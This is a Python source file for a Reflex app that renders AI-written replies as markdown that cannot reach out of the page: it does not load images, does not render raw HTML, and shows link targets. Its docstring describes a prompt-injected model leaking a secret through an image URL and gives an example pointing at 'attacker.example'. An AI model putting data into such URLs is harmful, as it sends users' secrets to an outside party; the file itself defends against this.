"""Reply text as markdown that cannot reach out of the page on its own.

A reply is model-written, and a prompt-injected model could put data into an image URL
(`![x](https://attacker.example/?q=<secret>)`): rendering it would send that request the
moment the reply shows. So images are never loaded: an image renders as its description
and its address, as text. Links stay clickable and show where they go, so a reader sees
the target before following it. Raw HTML is never rendered (`use_raw=False`), and
react-markdown drops unsafe URL schemes such as `javascript:`.
"""

from __future__ import annotations

import reflex as rx
from reflex.vars.base import Var

_SRC: Var[str] = Var(_js_expr="props.src", _var_type=str)
_ALT: Var[str] = Var(_js_expr="(props.alt || '')", _var_type=str)
_HREF: Var[str] = Var(_js_expr="props.href", _var_type=str)
# An autolink's text is its address already; showing it twice would be noise.
_SHOWS_ITS_TARGET: Var[bool] = Var(
    _js_expr="(String(children) === String(props.href))", _var_type=bool
)


def _image(*_children: object, **_props: object) -> rx.Component:
    return rx.el.span(
        rx.icon("image-off", size=13, custom_attrs={"aria-hidden": "true"}),
        rx.el.span(_ALT, class_name="iu-md-image-alt"),
        rx.el.span(_SRC, class_name="iu-md-target"),
        class_name="iu-md-image",
        title="Images in replies are not loaded",
        custom_attrs={"data-testid": "reply-image"},
    )


def _link(*children: object, **_props: object) -> rx.Component:
    return rx.el.span(
        rx.el.a(*children, href=_HREF, target="_blank", rel="noopener noreferrer nofollow"),
        rx.cond(_SHOWS_ITS_TARGET, rx.fragment(), rx.el.span(_HREF, class_name="iu-md-target")),
        class_name="iu-md-link",
    )


COMPONENT_MAP = {"img": _image, "a": _link}


def reply_markdown(text: rx.Var | str) -> rx.Component:
    """Markdown for a reply's text (see the module docstring)."""
    return rx.markdown(text, use_raw=False, component_map=COMPONENT_MAP, class_name="iu-md")
